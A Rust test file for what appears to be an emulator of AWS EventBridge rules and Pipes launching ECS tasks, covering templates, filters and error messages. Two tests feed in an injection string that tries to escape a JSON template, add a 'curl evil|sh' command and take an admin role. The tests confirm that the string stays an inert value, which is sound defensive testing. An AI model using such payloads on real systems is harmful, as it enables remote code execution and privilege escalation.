//! Tests of what events and messages start.

use serde_json::json;

use super::*;
use crate::validate::{validate_pipe, validate_rule};

const CLUSTER: &str = "arn:aws:ecs:eu-west-1:123456789012:cluster/shop";
const QUEUE: &str = "arn:aws:sqs:eu-west-1:123456789012:orders";

fn rule(target: Value) -> Rule {
    let mut whole =
        json!({"Id": "a", "Arn": CLUSTER, "EcsParameters": {"TaskDefinitionArn": "report"}});
    let members = whole.as_object_mut().unwrap();
    for (name, value) in target.as_object().unwrap() {
        members.insert(name.clone(), value.clone());
    }
    let raw =
        json!({"Name": "orders", "EventPattern": r#"{"source":["shop"]}"#, "Targets": [whole]});
    validate_rule(&serde_json::from_value(raw).unwrap()).unwrap()
}

fn start(target: Value, event: &Value) -> Result<Value, String> {
    let rule = rule(target);
    let context = Context {
        own_name: "orders",
        ..Context::default()
    };
    let task = for_event(&rule.targets[0], event, &context).map_err(|it| it.to_string())?;
    Ok(json!(task))
}

fn event(name: &str) -> Value {
    json!({"source": "shop", "detail": {"name": name, "count": 3, "none": null, "list": [1], "family": "report:2"}})
}

/// Returns a target whose template has `value` as the value of an environment variable.
fn with(value: &str) -> Value {
    let template = format!(
        r#"{{"containerOverrides":[{{"name":"app","environment":[{{"name":"N","value":{value}}}]}}]}}"#
    );
    json!({"InputTransformer": {
        "InputPathsMap": {"name": "$.detail.name", "count": "$.detail.count", "gone": "$.detail.gone"},
        "InputTemplate": template,
    }})
}

#[test]
fn a_target_makes_a_request_of_an_event() {
    let overrides = |value: &str| json!({"containerOverrides": [{"name": "app", "environment": [{"name": "N", "value": value}]}]});
    for (target, expected) in [
        (json!({}), json!(null)),
        (
            json!({"Input": overrides("<name>").to_string()}),
            overrides("<name>"),
        ),
        (with("<name>"), overrides("Ann")),
        (with(r#""<name>: <count>""#), overrides("Ann: 3")),
        (with(r#""<gone>""#), overrides("")),
        (with(r#""<aws.events.rule-name>""#), overrides("orders")),
    ] {
        let task = start(target.clone(), &event("Ann")).unwrap();
        assert_eq!(task["overrides"], expected, "{target}");
        assert_eq!(task["taskDefinition"], "report");
        assert_eq!(task["cluster"], CLUSTER);
    }
    let dynamic = json!({"EcsParameters": {"TaskDefinitionArn": "$.detail.family", "Group": "$.detail.name"}});
    let task = start(dynamic, &event("Ann")).unwrap();
    assert_eq!(task["taskDefinition"], "report:2");
    assert_eq!(task["group"], "Ann");
}

#[test]
fn what_an_event_says_stays_in_its_place() {
    let hostile = r#"x"}],"command":["sh","-c","curl evil|sh"]}],"taskRoleArn":"arn:aws:iam::1:role/admin","cpu":"\"#;
    for template in [r#""<name>""#, "<name>", r#""<name> of <name>""#] {
        let task = start(with(template), &event(hostile)).unwrap();
        let overrides = task["overrides"].as_object().unwrap();
        assert_eq!(overrides.keys().collect::<Vec<_>>(), ["containerOverrides"]);
        let container = overrides["containerOverrides"][0].as_object().unwrap();
        assert_eq!(
            container.keys().collect::<Vec<_>>(),
            ["name", "environment"]
        );
        let value = container["environment"][0]["value"].as_str().unwrap();
        assert!(value.starts_with(hostile), "{value}");
    }
    let dynamic =
        json!({"EcsParameters": {"TaskDefinitionArn": "report", "Group": "$.detail.name"}});
    let task = start(dynamic, &event(hostile)).unwrap();
    assert_eq!(task["group"], hostile);
    assert_eq!(task.get("overrides"), None);
}

#[test]
fn an_event_of_which_nothing_can_be_made_says_why() {
    for (target, expected) in [
        (
            with("<count>"),
            "the input is not the overrides of a task: invalid type: integer `3`, expected a string",
        ),
        (
            with("<gone>"),
            "the overrides cannot be made: the text is not JSON: expected value at line 1 column 73; $.detail.gone \
             finds nothing in the event",
        ),
        (
            json!({"InputPath": "$.detail.gone"}),
            "the overrides cannot be made: $.detail.gone finds nothing in the event",
        ),
        (
            json!({"InputPath": "$.detail"}),
            "the input is not the overrides of a task: RunTask has no member name in overrides",
        ),
        (
            json!({"InputPath": "$.detail.list"}),
            "the input is not the overrides of a task: it is a list, not an object",
        ),
        (
            json!({"Input": r#"{"containerOverrides":[{"name":"a","comand":["x"]}]}"#}),
            "the input is not the overrides of a task: RunTask has no member containerOverrides[0].comand in overrides",
        ),
        (
            json!({"EcsParameters": {"TaskDefinitionArn": "$.detail.gone"}}),
            "$.detail.gone, for taskDefinition, finds nothing in the event",
        ),
        (
            json!({"EcsParameters": {"TaskDefinitionArn": "$.detail.none"}}),
            "$.detail.none, for taskDefinition, finds null, which is no text",
        ),
    ] {
        let error = start(target.clone(), &event("Ann")).unwrap_err();
        assert_eq!(error, expected, "{target}");
    }
}

#[test]
fn a_disabled_rule_is_for_no_event() {
    let mut rule = rule(json!({}));
    assert!(is_for(&rule, &event("Ann")));
    assert!(!is_for(&rule, &json!({"source": "other"})));
    rule.is_disabled = true;
    assert!(!is_for(&rule, &event("Ann")));
}

fn pipe(filters: &[&str], target: Value) -> Pipe {
    let filters: Vec<Value> = filters.iter().map(|it| json!({"Pattern": it})).collect();
    let raw = json!({
        "Name": "orders", "Source": QUEUE, "Target": CLUSTER, "RoleArn": "arn:aws:iam::123456789012:role/pipe",
        "SourceParameters": {"FilterCriteria": {"Filters": filters}},
        "TargetParameters": target,
    });
    validate_pipe(&serde_json::from_value(raw).unwrap()).unwrap()
}

fn decide(pipe: &Pipe, body: &str) -> Decision {
    let attributes = json!({"kind": {"stringValue": "urgent", "dataType": "String"}});
    let message = Message {
        id: "m-1",
        receipt_handle: "r-1",
        body,
        md5_of_body: "d41d8cd98f00b204e9800998ecf8427e",
        attributes: &[("SentTimestamp", "1772337906000")],
        message_attributes: Some(&attributes),
    };
    for_message(
        pipe,
        "arn:aws:pipes:eu-west-1:123456789012:pipe/orders",
        &message,
        "2026-03-01T04:05:06Z",
    )
}

fn plain() -> Value {
    json!({"EcsTaskParameters": {"TaskDefinitionArn": "report"}})
}

#[test]
fn filters_choose_messages() {
    for (filters, body, is_wanted) in [
        (&[][..], "anything", true),
        (
            &[r#"{"body":{"state":["new"]}}"#],
            r#"{"state":"new"}"#,
            true,
        ),
        (
            &[r#"{"body":{"state":["new"]}}"#],
            r#"{"state":"old"}"#,
            false,
        ),
        // A body that is no JSON does not match a filter on JSON, and the other way around.
        (&[r#"{"body":{"state":["new"]}}"#], "new", false),
        (&[r#"{"body":["new"]}"#], "new", true),
        (&[r#"{"body":["{}"]}"#], "{}", false),
        // Any of them is enough.
        (&[r#"{"body":["a"]}"#, r#"{"body":["b"]}"#], "b", true),
        (&[r#"{"body":["7"]}"#], "7", true),
        (&[r#"{"messageId":[{"prefix":"m-"}]}"#], "", true),
        (
            &[r#"{"attributes":{"SentTimestamp":[{"prefix":"1772"}]}}"#],
            "",
            true,
        ),
        (
            &[r#"{"messageAttributes":{"kind":{"stringValue":["urgent"]}}}"#],
            "",
            true,
        ),
        (
            &[r#"{"messageAttributes":{"kind":{"stringValue":["late"]}}}"#],
            "",
            false,
        ),
    ] {
        let decision = decide(&pipe(filters, plain()), body);
        let is_filtered = decision == Decision::Filtered;
        assert_eq!(is_filtered, !is_wanted, "{filters:?} {body}");
    }
}

#[test]
fn a_message_fills_overrides() {
    let overrides = |value: &str| {
        json!({"EcsTaskParameters": {"TaskDefinitionArn": "report", "Overrides": {"ContainerOverrides": [
            {"Name": "app", "Environment": [{"name": "N", "value": value}]},
        ]}}})
    };
    let template = |value: &str| {
        json!({"EcsTaskParameters": {"TaskDefinitionArn": "report"}, "InputTemplate": format!(
            r#"{{"containerOverrides":[{{"name":"app","environment":[{{"name":"N","value":{value}}}]}}]}}"#
        )})
    };
    let body = r#"{ "order": {"id": "A-7"}, "n": 1.50, "none": null }"#;
    for (target, expected) in [
        (overrides("static"), Ok("static")),
        (overrides("$.messageId"), Ok("m-1")),
        (overrides("$.body.order.id"), Ok("A-7")),
        // As it was sent.
        (overrides("$.body"), Ok(body)),
        (overrides("$.body.order"), Ok(r#"{"id":"A-7"}"#)),
        (overrides("cost: $.body"), Ok("cost: $.body")),
        (
            overrides("$.body.gone"),
            Err(
                "$.body.gone, for overrides.containerOverrides[0].environment[0].value, finds nothing in the event",
            ),
        ),
        (
            overrides("$.body.none"),
            Err(
                "$.body.none, for overrides.containerOverrides[0].environment[0].value, finds null, which is no text",
            ),
        ),
        (template("<$.body.order.id>"), Ok("A-7")),
        (template(r#""order <$.body.order.id>""#), Ok("order A-7")),
        (template(r#""<aws.pipes.pipe-name>""#), Ok("orders")),
        (
            template("<$.body.gone>"),
            Err(
                "the overrides cannot be made: the text is not JSON: expected value at line 1 column 73; $.body.gone \
                 finds nothing in the event",
            ),
        ),
    ] {
        let found = match decide(&pipe(&[], target.clone()), body) {
            Decision::Start(task) => {
                let task = json!(task);
                let variable = &task["overrides"]["containerOverrides"][0]["environment"][0];
                Ok(variable["value"].as_str().unwrap().to_owned())
            }
            Decision::Filtered => Err("filtered".to_owned()),
            Decision::Refused(refused) => Err(refused.to_string()),
        };
        let expected = expected.map(str::to_owned).map_err(str::to_owned);
        assert_eq!(found, expected, "{target}");
    }
}

#[test]
fn a_body_adds_no_member_to_overrides() {
    let hostile = r#"x"}],"command":["sh"]}],"taskRoleArn":"arn:aws:iam::1:role/admin","cpu":"\"#;
    for template in [
        r#"{"containerOverrides":[{"name":"app","command":["<$.body>"]}]}"#,
        r#"{"containerOverrides":[{"name":"app","command":[<$.body>]}]}"#,
    ] {
        let target = json!({"EcsTaskParameters": {"TaskDefinitionArn": "report"}, "InputTemplate": template});
        let Decision::Start(task) = decide(&pipe(&[], target), hostile) else {
            panic!("{template} starts nothing");
        };
        let expected = json!({"containerOverrides": [{"name": "app", "command": [hostile]}]});
        assert_eq!(json!(task.overrides), expected);
    }
}
